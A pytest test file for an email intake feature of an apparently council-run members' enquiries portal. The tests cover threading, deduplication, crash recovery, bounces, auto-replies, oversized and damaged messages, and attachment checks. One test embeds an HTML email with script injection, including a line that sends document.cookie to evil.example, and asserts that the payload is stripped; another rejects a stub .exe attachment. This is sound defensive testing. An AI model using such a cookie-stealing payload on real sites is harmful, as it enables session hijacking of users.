"""Email into the members' enquiries mailbox, against a real IMAP server (Dovecot on
127.0.0.1 with TLS, tests/imapd.py): messages are delivered by IMAP APPEND with their arrival
time and taken in by the same poll the Celery beat runs."""

from __future__ import annotations

import uuid
from datetime import datetime, timedelta
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import format_datetime

import pytest
from django.urls import reverse

from enquiries import mail
from enquiries.mailbox import ImapMailbox, mailbox_poll
from enquiries.models import (
    Channel,
    Enquiry,
    InboundMessage,
    InboundOutcome,
    MemberAddress,
    SetAsideReason,
)
from enquiries.services import enquiry_request_clarification
from enquiries.states import Status
from protocol_portal.org.calendars import calendar_for
from tests.conftest import LONDON
from tests.enquiries.helpers import messages_to

ARRIVED = datetime(2026, 3, 2, 9, 15, tzinfo=LONDON)  # Monday, before the tests' as_of


def email(
    sender: str,
    subject: str = "Pothole on Mill Lane",
    body: str = "A resident reports a deep pothole outside number 12.",
    *,
    html: str | None = None,
    message_id: str | None = None,
    **headers: str,
) -> bytes:
    message = EmailMessage()
    message["From"] = sender
    message["To"] = "enquiries@testshire.example"
    message["Subject"] = subject
    message["Date"] = format_datetime(ARRIVED)
    message["Message-ID"] = message_id or f"<{uuid.uuid4().hex}@members.example.org>"
    for name, value in headers.items():
        message[name.replace("_", "-")] = value
    if html is not None:
        message.set_content(html, subtype="html")
    else:
        message.set_content(body)
    return message.as_bytes()


def poll(mailbox, server, as_of):
    return mailbox_poll(mailbox=mailbox, context=server.context(), clock=lambda: as_of)


def seen(server, mailbox) -> list[bool]:
    return ["\\Seen" in flags for _, flags in sorted(server.flags(mailbox.folder).items())]


def test_an_email_from_a_member_opens_their_enquiry_received_when_it_arrived(
    org, mailbox, imap_server, as_of
):
    imap_server.deliver(mailbox.folder, email(org.raiser.person.email), arrived_at=ARRIVED)

    report = poll(mailbox, imap_server, as_of)

    enquiry = Enquiry.objects.get()
    assert report.taken == 1
    assert enquiry.member == org.raiser
    assert enquiry.channel == Channel.EMAIL
    assert enquiry.received_at == ARRIVED
    assert enquiry.subject == "Pothole on Mill Lane"
    assert "deep pothole" in enquiry.description
    assert enquiry.due_on == calendar_for(org.council).add(ARRIVED.date(), 10)
    # The member is emailed the acknowledgement: reference, owner and due date.
    (ack,) = [m for m in messages_to(org.raiser.person) if "received" in m.subject]
    assert enquiry.reference in ack.subject
    assert enquiry.owner_post.title in ack.body
    assert f"{enquiry.due_on:%d %B %Y}" in ack.body
    row = InboundMessage.objects.get()
    assert (row.outcome, row.enquiry) == (InboundOutcome.OPENED, enquiry)
    assert row.raw.read().startswith(b"From:") or b"Message-ID" in row.raw.read()
    assert seen(imap_server, mailbox) == [True]  # marked only once taken


def test_the_same_message_delivered_twice_opens_one_enquiry(org, mailbox, imap_server, as_of):
    raw = email(org.raiser.person.email, message_id="<same-one@members.example.org>")
    imap_server.deliver(mailbox.folder, raw, arrived_at=ARRIVED)
    imap_server.deliver(mailbox.folder, raw, arrived_at=ARRIVED + timedelta(minutes=2))

    poll(mailbox, imap_server, as_of)
    again = poll(mailbox, imap_server, as_of)

    assert Enquiry.objects.count() == 1
    first, second = InboundMessage.objects.order_by("uid")
    assert first.outcome == InboundOutcome.OPENED
    assert (second.outcome, second.duplicate_of) == (InboundOutcome.DUPLICATE, first)
    assert second.enquiry == first.enquiry
    assert seen(imap_server, mailbox) == [True, True]
    assert (again.waiting, again.taken) == (0, 0)


def test_a_worker_killed_after_storing_but_before_marking_takes_nothing_twice(
    org, mailbox, imap_server, as_of, monkeypatch
):
    imap_server.deliver(mailbox.folder, email(org.raiser.person.email), arrived_at=ARRIVED)

    def dies(self, uid):
        raise ConnectionResetError("the worker died before marking the message")

    with monkeypatch.context() as patched:
        patched.setattr(ImapMailbox, "done", dies)
        with pytest.raises(ConnectionResetError):
            poll(mailbox, imap_server, as_of)
    assert Enquiry.objects.count() == 1  # stored and committed
    assert seen(imap_server, mailbox) == [False]  # but not marked

    report = poll(mailbox, imap_server, as_of + timedelta(minutes=1))

    assert (report.already, report.taken) == (1, 0)
    assert Enquiry.objects.count() == 1
    assert InboundMessage.objects.count() == 1
    assert seen(imap_server, mailbox) == [True]


def test_a_worker_killed_half_way_through_a_message_leaves_it_to_the_next_poll(
    org, mailbox, imap_server, as_of, monkeypatch
):
    imap_server.deliver(mailbox.folder, email(org.raiser.person.email), arrived_at=ARRIVED)
    real_create = mail.services.enquiry_create

    def dies_after_writing(**kwargs):
        real_create(**kwargs)
        raise MemoryError("the worker died inside the transaction")

    with monkeypatch.context() as patched:
        patched.setattr(mail.services, "enquiry_create", dies_after_writing)
        report = poll(mailbox, imap_server, as_of)
    assert (report.taken, report.failed) == (0, 1)
    assert Enquiry.objects.count() == 0  # rolled back with the row
    assert InboundMessage.objects.count() == 0
    assert seen(imap_server, mailbox) == [False]

    poll(mailbox, imap_server, as_of)

    assert Enquiry.objects.count() == 1
    assert seen(imap_server, mailbox) == [True]


def test_a_reply_is_threaded_onto_the_right_enquiry_and_resumes_its_clock(
    org, mailbox, imap_server, as_of
):
    member = org.raiser.person.email
    imap_server.deliver(mailbox.folder, email(member, "Bins not collected"), arrived_at=ARRIVED)
    original = email(member, "Streetlight out", message_id="<light@members.example.org>")
    imap_server.deliver(mailbox.folder, original, arrived_at=ARRIVED)
    poll(mailbox, imap_server, as_of)
    bins, light = Enquiry.objects.order_by("pk")
    light = enquiry_request_clarification(
        enquiry=light,
        question="Which street?",
        actor=light.owner_post.holder,
        as_of=as_of,
    )
    due_before = light.due_on
    answered = datetime(2026, 3, 5, 11, 0, tzinfo=LONDON)  # Thursday: 3 working days paused
    imap_server.deliver(
        mailbox.folder,
        email(member, f"Re: {light.reference}: please clarify your enquiry", "Mill Lane."),
        arrived_at=answered,
    )
    # A second message in the same thread, found by In-Reply-To alone.
    imap_server.deliver(
        mailbox.folder,
        email(member, "Re: Streetlight out", "Also number 14.", In_Reply_To=original_id(original)),
        arrived_at=answered + timedelta(hours=1),
    )

    poll(mailbox, imap_server, answered + timedelta(hours=2))

    light.refresh_from_db()
    bins.refresh_from_db()
    assert light.status == Status.IN_PROGRESS
    assert light.due_on == calendar_for(org.council).add(due_before, 3)
    kinds = list(light_events(light).values_list("kind", "detail"))
    assert ("member_replied", "Mill Lane.") in kinds
    assert ("member_emailed", "Also number 14.") in kinds
    assert not light_events(bins).filter(kind__in=["member_replied", "member_emailed"]).exists()
    assert Enquiry.objects.count() == 2
    threaded = InboundMessage.objects.filter(outcome=InboundOutcome.THREADED)
    assert {m.enquiry for m in threaded} == {light}


def original_id(raw: bytes) -> str:
    return next(
        line.split(b":", 1)[1].strip().decode()
        for line in raw.splitlines()
        if line.lower().startswith(b"message-id:")
    )


def light_events(enquiry):
    from protocol_portal.casework.models import CaseEvent

    return CaseEvent.objects.filter(case_id=enquiry.pk, case_type__model="enquiry")


def test_a_reply_naming_another_members_enquiry_is_set_aside(org, mailbox, imap_server, as_of):
    imap_server.deliver(mailbox.folder, email(org.colleague.person.email), arrived_at=ARRIVED)
    poll(mailbox, imap_server, as_of)
    theirs = Enquiry.objects.get()
    imap_server.deliver(
        mailbox.folder,
        email(org.raiser.person.email, f"Re: {theirs.reference}", "Let me see it."),
        arrived_at=ARRIVED + timedelta(minutes=5),
    )

    poll(mailbox, imap_server, as_of)

    row = InboundMessage.objects.latest("pk")
    assert (row.outcome, row.reason) == (InboundOutcome.SET_ASIDE, SetAsideReason.NOT_THEIRS)
    assert not light_events(theirs).filter(kind="member_emailed").exists()


def test_an_unknown_sender_is_set_aside_for_member_services(
    org, mailbox, imap_server, as_of, client
):
    imap_server.deliver(
        mailbox.folder, email("resident@elsewhere.example", "Help please"), arrived_at=ARRIVED
    )

    poll(mailbox, imap_server, as_of)

    assert Enquiry.objects.count() == 0
    row = InboundMessage.objects.get()
    assert (row.outcome, row.reason) == (InboundOutcome.SET_ASIDE, SetAsideReason.UNKNOWN_SENDER)
    assert seen(imap_server, mailbox) == [True]  # kept in the portal, so marked
    client.force_login(org.triage.holder)
    page = client.get(reverse("enquiries:set-aside"))
    assert page.status_code == 200
    assert "resident@elsewhere.example" in page.content.decode()
    client.force_login(org.housing_officer.holder)
    assert client.get(reverse("enquiries:set-aside")).status_code == 403


@pytest.mark.parametrize(
    "headers",
    [
        {"Auto_Submitted": "auto-replied"},
        {"Precedence": "bulk"},
        {"X_Autoreply": "yes"},
    ],
)
def test_an_automatic_reply_from_a_member_is_set_aside(org, mailbox, imap_server, as_of, headers):
    raw = email(org.raiser.person.email, "Automatic reply: your enquiry", "I am away.", **headers)
    imap_server.deliver(mailbox.folder, raw, arrived_at=ARRIVED)

    poll(mailbox, imap_server, as_of)

    assert Enquiry.objects.count() == 0
    row = InboundMessage.objects.get()
    assert (row.outcome, row.reason) == (InboundOutcome.SET_ASIDE, SetAsideReason.AUTO_REPLY)


def test_bounces_and_mail_loops_are_set_aside(org, mailbox, imap_server, as_of):
    imap_server.deliver(
        mailbox.folder,
        email("MAILER-DAEMON@mx.example.org", "Undelivered Mail Returned to Sender"),
        arrived_at=ARRIVED,
    )
    imap_server.deliver(mailbox.folder, email(mailbox.address, "Loop"), arrived_at=ARRIVED)
    imap_server.deliver(
        mailbox.folder,
        email(org.raiser.person.email, "Looping", X_Loop=mailbox.address),
        arrived_at=ARRIVED,
    )

    poll(mailbox, imap_server, as_of)

    assert Enquiry.objects.count() == 0
    assert list(InboundMessage.objects.order_by("uid").values_list("reason", flat=True)) == [
        SetAsideReason.BOUNCE,
        SetAsideReason.LOOP,
        SetAsideReason.LOOP,
    ]


def test_a_30_mb_message_is_set_aside_from_its_headers_and_left_in_the_mailbox(
    org, mailbox, imap_server, as_of
):
    message = EmailMessage()
    message["From"] = org.raiser.person.email
    message["Subject"] = "Photos of the flooding"
    message["Message-ID"] = "<big@members.example.org>"
    message.set_content("See the attached photos.")
    message.add_attachment(
        b"\x89PNG\r\n\x1a\n" + bytes(30 * 1024 * 1024),
        maintype="image",
        subtype="png",
        filename="flood.png",
    )
    raw = message.as_bytes(policy=SMTP)  # CRLF, as the server stores and counts it
    assert len(raw) > 30 * 1024 * 1024
    imap_server.deliver(mailbox.folder, raw, arrived_at=ARRIVED)

    poll(mailbox, imap_server, as_of)

    assert Enquiry.objects.count() == 0
    row = InboundMessage.objects.get()
    assert (row.outcome, row.reason) == (InboundOutcome.SET_ASIDE, SetAsideReason.TOO_LARGE)
    assert row.member == org.raiser  # so member services can log it for them
    assert row.subject == "Photos of the flooding"
    assert row.size == len(raw)
    assert "MB" in row.notes
    assert "still in the mailbox" in row.notes
    assert not row.raw  # never downloaded whole
    assert seen(imap_server, mailbox) == [True]


def test_html_with_scripts_is_shown_as_text_with_a_note(org, mailbox, imap_server, as_of, client):
    html = (
        "<html><head><style>p{color:red}</style><script>alert('head')</script></head>"
        '<body><p onclick="steal()">The <b>hedge</b> at 3 Oak Road</p>'
        "<script>document.location='https://evil.example/'+document.cookie</script>"
        '<a href="javascript:steal()">blocks the pavement.</a></body></html>'
    )
    imap_server.deliver(
        mailbox.folder, email(org.raiser.person.email, "Hedge", html=html), arrived_at=ARRIVED
    )

    poll(mailbox, imap_server, as_of)

    enquiry = Enquiry.objects.get()
    assert "The hedge at 3 Oak Road" in enquiry.description
    assert "blocks the pavement." in enquiry.description
    for dangerous in ("<", "alert", "document.cookie", "steal", "color:red"):
        assert dangerous not in enquiry.description
    row = InboundMessage.objects.get()
    assert "HTML" in row.notes
    assert "scripts" in row.notes
    client.force_login(org.raiser.person)
    page = client.get(reverse("enquiries:detail", args=[enquiry.reference])).content.decode()
    assert "evil.example" not in page


def test_damaged_mime_is_read_as_far_as_it_can_be(org, mailbox, imap_server, as_of):
    raw = (
        f"From: {org.raiser.person.email}\r\nSubject: Broken\r\n"
        "Message-ID: <broken@members.example.org>\r\n"
        'Content-Type: multipart/mixed; boundary="never-closed"\r\n\r\n'
        "--never-closed\r\nContent-Type: text/plain; charset=no-such-charset\r\n\r\n"
        "The fence is down.\r\n"
    ).encode()
    imap_server.deliver(mailbox.folder, raw, arrived_at=ARRIVED)

    poll(mailbox, imap_server, as_of)

    enquiry = Enquiry.objects.get()
    assert "The fence is down." in enquiry.description
    assert "damaged" in InboundMessage.objects.get().notes


def test_a_member_with_two_addresses_is_known_by_either(org, mailbox, imap_server, as_of):
    MemberAddress.objects.create(member=org.raiser, address="Cllr.Raiser@Home.example")
    imap_server.deliver(
        mailbox.folder, email("Cllr Raiser <cllr.raiser@home.example>"), arrived_at=ARRIVED
    )
    imap_server.deliver(mailbox.folder, email(org.raiser.person.email), arrived_at=ARRIVED)

    poll(mailbox, imap_server, as_of)

    assert list(Enquiry.objects.values_list("member", flat=True)) == [org.raiser.pk] * 2


def test_attachments_pass_the_upload_checks(org, mailbox, imap_server, as_of):
    message = EmailMessage()
    message["From"] = org.raiser.person.email
    message["Subject"] = "Letter from the resident"
    message.set_content("Attached.")
    message.add_attachment(b"%PDF-1.4 letter", maintype="application", subtype="pdf",
                           filename="letter.pdf")  # fmt: skip
    message.add_attachment(b"MZ\x90\x00", maintype="application", subtype="octet-stream",
                           filename="invoice.exe")  # fmt: skip
    imap_server.deliver(mailbox.folder, message.as_bytes(), arrived_at=ARRIVED)

    poll(mailbox, imap_server, as_of)

    enquiry = Enquiry.objects.get()
    assert [a.original_name for a in enquiry.attachments.all()] == ["letter.pdf"]
    assert "invoice.exe" in InboundMessage.objects.get().notes


def test_the_beat_task_polls_each_enabled_mailbox(org, mailbox, imap_server, as_of, settings):
    from enquiries import tasks

    settings.IMAP_CA_FILE = str(imap_server.ca_file)
    imap_server.deliver(mailbox.folder, email(org.raiser.person.email), arrived_at=ARRIVED)

    assert tasks.poll_mailboxes() == 1  # runs its poll_mailbox inline in unit tests

    assert Enquiry.objects.count() == 1
